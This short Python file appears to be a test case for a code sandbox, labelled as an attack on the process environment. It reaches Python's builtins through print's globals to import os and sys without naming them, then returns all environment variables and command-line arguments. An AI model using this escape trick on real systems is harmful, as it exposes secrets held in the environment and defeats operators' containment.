# attack: the environment and arguments of the process
# expect: answer
OUTPUT = {"v": {"type": "bytes", "max": 4096}}


def transform(payload):
    go = print.__func__.__globals__["__builtins__"]["__import__"]

    os, sys = go("os"), go("sys")
    return {"v": repr((dict(os.environ), sys.orig_argv)).encode()[:4096]}
